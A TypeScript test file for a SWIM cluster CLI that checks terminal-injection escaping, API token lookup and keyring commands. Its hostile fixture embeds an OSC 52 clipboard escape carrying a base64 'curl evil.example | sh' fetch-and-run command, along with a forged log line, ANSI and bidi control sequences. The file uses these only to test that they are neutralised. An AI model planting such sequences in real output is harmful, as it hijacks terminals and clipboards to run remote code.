/**
 * Terminal injection: metadata, addresses and ids are whatever a member gossiped, so the human
 * output escapes every control character (ESC, OSC 52, newline, bidi overrides) and `--json`
 * stays byte-exact. Against a real API over a FakeSwim, through the CLI's own main().
 */
import { mkdtempSync, readFileSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { test } from 'uvu'
import * as assert from 'uvu/assert'
import { escapeText, formatEventLine, formatMembersTable } from '../../src/cli/format.ts'
import { main } from '../../src/cli/main.ts'
import { generateClusterKey } from '../../src/daemon/keygen.ts'
import { startApi } from '../daemon/api-harness.ts'
import { Keyring, keyId } from '../../src/libp2p/keyring.ts'
import { makeMember } from '../daemon/fake-swim.ts'
import { Collector, waitFor } from '../daemon/wait.ts'

const OSC52 = '\u001b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\u0007'
const FORGED = '\n2024-05-01T12:00:00.000Z fail    12D3KooWVictim'
const HOSTILE = {
  id: '12D3KooWEvil\u001b[2K\r',
  addrs: [`/ip4/10.0.0.66/tcp/7946${OSC52}`],
  meta: { 'role\u001b[31m': `x${FORGED}`, note: 'a\u202eb\\x1b\u0085' }
}

/** No byte a terminal would act on: C0 (tab aside, which is escaped too), DEL, C1, separators, bidi. */
// eslint-disable-next-line no-control-regex
const CONTROL = /[\u0000-\u001f\u007f-\u009f\u2028\u2029\u202a-\u202e\u2066-\u2069]/

test('escapeText makes every control character visible and keeps backslashes unambiguous', () => {
  assert.is(escapeText('a\u001b[31mb'), 'a\\x1b[31mb')
  assert.is(escapeText('l1\nl2\r\t'), 'l1\\nl2\\r\\t')
  assert.is(escapeText('\u0000\u007f\u009b'), '\\x00\\x7f\\x9b')
  assert.is(escapeText('\u202eevil\u2028'), '\\u{202e}evil\\u{2028}')
  assert.is(escapeText('C:\\x1b'), 'C:\\\\x1b', 'a sent "\\x1b" cannot pass for an escape')
  assert.is(escapeText('plain ünïcode ✓ /ip4/1.2.3.4'), 'plain ünïcode ✓ /ip4/1.2.3.4')
  assert.is(escapeText(7), '7')
})

test('event lines and the members table carry no control character, whatever the member sent', () => {
  const member = makeMember(HOSTILE.id, { addrs: HOSTILE.addrs, meta: HOSTILE.meta })
  const line = formatEventLine({ type: 'join', at: 0, member }, false)
  assert.not.ok(CONTROL.test(line), JSON.stringify(line))
  assert.not.ok(line.includes('\n'))
  assert.match(line, '12D3KooWEvil\\x1b[2K\\r')
  assert.match(line, 'x\\n2024-05-01T12:00:00.000Z fail')
  const table = formatMembersTable([member, makeMember('ok', { state: 'alive\u001b]0;title\u0007' as 'alive' })], false)
  assert.is(table.split('\n').length, 4, 'header, two rows, final newline')
  assert.not.ok(CONTROL.test(table.replaceAll('\n', '')))
})

test('watch and members print escaped lines for people and exact JSON with --json', async () => {
  const h = await startApi()
  try {
    const stdout = new Collector()
    const json = new Collector()
    const controller = new AbortController()
    const human = main(['watch', '--api', h.base, '--since', '0'], {}, stdout, new Collector(), { signal: controller.signal })
    const exact = main(['watch', '--json', '--api', h.base, '--since', '0'], {}, json, new Collector(), { signal: controller.signal })
    await waitFor('two watchers', () => h.eventLog.subscriberCount === 2)
    h.swim.emit('join', HOSTILE.id, { addrs: HOSTILE.addrs, meta: HOSTILE.meta })
    await waitFor('the event printed', () => stdout.lines.length === 1 && json.lines.length === 1)
    controller.abort()
    assert.is(await human, 0)
    assert.is(await exact, 0)
    assert.is(stdout.text.split('\n').length, 2, 'one line: the forged "fail" stays inside it')
    assert.not.ok(CONTROL.test(stdout.text.slice(0, -1)), JSON.stringify(stdout.text))
    const event = JSON.parse(json.lines[0])
    assert.is(event.member.id, HOSTILE.id)
    assert.equal(event.member.addrs, HOSTILE.addrs)
    assert.equal(event.member.meta, HOSTILE.meta)

    const table = new Collector()
    assert.is(await main(['members', '--api', h.base], {}, table, new Collector()), 0)
    assert.not.ok(CONTROL.test(table.text.replaceAll('\n', '')))
    const list = new Collector()
    assert.is(await main(['members', '--json', '--api', h.base], {}, list, new Collector()), 0)
    assert.equal(JSON.parse(list.text).members.find((m: { id: string }) => m.id === HOSTILE.id).meta, HOSTILE.meta)
  } finally {
    await h.close()
  }
})

test('the CLI finds the token: --token-file (or SWIM_TOKEN_FILE), SWIM_API_TOKEN, SWIMD_API_TOKEN (a file, as for swimd), then --data-dir or SWIMD_DATA_DIR', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'swim-cli-token-'))
  const h = await startApi({ token: 'right', guard: { guardReads: true } })
  try {
    writeFileSync(join(dir, 'api-token'), 'right\n', { mode: 0o600 })
    writeFileSync(join(dir, 'wrong'), 'wrong\n', { mode: 0o600 })
    const members = async (argv: string[], env: Record<string, string>): Promise<{ code: number, err: string }> => {
      const stderr = new Collector()
      const code = await main(['members', '--json', '--api', h.base, ...argv], env, new Collector(), stderr)
      return { code, err: stderr.text }
    }
    assert.is((await members(['--data-dir', dir], {})).code, 0, '--data-dir')
    assert.is((await members([], { SWIMD_DATA_DIR: dir })).code, 0, 'SWIMD_DATA_DIR')
    assert.is((await members([], { SWIMD_API_TOKEN: join(dir, 'api-token') })).code, 0, 'SWIMD_API_TOKEN')
    assert.is((await members([], { SWIM_API_TOKEN: 'right', SWIMD_DATA_DIR: join(dir, 'none') })).code, 0, 'SWIM_API_TOKEN')
    assert.is((await members(['--token-file', join(dir, 'api-token')], { SWIM_API_TOKEN: 'wrong' })).code, 0, '--token-file wins')
    // SWIM_TOKEN_FILE is --token-file's variable: it stands where the flag stands
    assert.is((await members([], { SWIM_TOKEN_FILE: join(dir, 'api-token'), SWIM_API_TOKEN: 'wrong', SWIMD_API_TOKEN: join(dir, 'wrong') })).code, 0, 'SWIM_TOKEN_FILE wins over the variables after it')
    assert.is((await members(['--token-file', join(dir, 'api-token')], { SWIM_TOKEN_FILE: join(dir, 'wrong') })).code, 0, 'the flag wins over its variable')
    const named = await members([], { SWIM_TOKEN_FILE: join(dir, 'none') })
    assert.is(named.code, 2, 'a file SWIM_TOKEN_FILE names must exist')
    assert.match(named.err, `Cannot read SWIM_TOKEN_FILE "${join(dir, 'none')}": no such file`)
    const refused = await members([], { SWIMD_DATA_DIR: join(dir, 'none') })
    assert.is(refused.code, 1)
    assert.match(refused.err, 'answered 401')
    assert.match(refused.err, '--data-dir')
    const missing = await members(['--data-dir', join(dir, 'none')], {})
    assert.is(missing.code, 2, 'a data dir named on the command line must hold the token')
    assert.match(missing.err, `Cannot read the token of the data directory "${join(dir, 'none', 'api-token')}": no such file`)
  } finally {
    await h.close()
    rmSync(dir, { recursive: true, force: true })
  }
})

test('keys list|install|use|remove drive the keyring through the API', async () => {
  const dir = mkdtempSync(join(tmpdir(), 'swim-cli-keys-'))
  const old = Uint8Array.from(Buffer.from(new TextDecoder().decode(generateClusterKey()).split('\n')[2], 'hex'))
  const keyring = new Keyring([old])
  const h = await startApi({ token: 'tok', keyring })
  const run = async (...argv: string[]): Promise<{ code: number, out: string, err: string }> => {
    const stdout = new Collector()
    const stderr = new Collector()
    const code = await main(['keys', ...argv, '--api', h.base], { SWIM_API_TOKEN: 'tok' }, stdout, stderr)
    return { code, out: stdout.text, err: stderr.text }
  }
  try {
    const file = join(dir, 'new.key')
    writeFileSync(file, generateClusterKey(), { mode: 0o600 })
    const newId = keyId(Buffer.from(readFileSync(file, 'utf8').split('\n')[2], 'hex'))
    assert.equal(await run('list'), { code: 0, out: `${keyId(old)}  primary\n`, err: '' })
    assert.equal(await run('install', file), { code: 0, out: `installed key ${newId}\n`, err: '' })
    assert.equal(await run('use', newId), { code: 0, out: `key ${newId} is now primary\n`, err: '' })
    const refused = await run('remove', newId)
    assert.is(refused.code, 1)
    assert.match(refused.err, 'is the primary key')
    assert.equal(await run('remove', keyId(old)), { code: 0, out: `removed key ${keyId(old)}\n`, err: '' })
    const listed = await run('list', '--json')
    assert.equal(JSON.parse(listed.out), { keys: [{ id: newId, primary: true }] })
    const bad = await run('use', 'not-an-id')
    assert.is(bad.code, 2)
    assert.match(bad.err, 'Invalid key id "not-an-id"')
    assert.is((await run('install', join(dir, 'missing'))).code, 2)
  } finally {
    await h.close()
    rmSync(dir, { recursive: true, force: true })
  }
})

test.run()
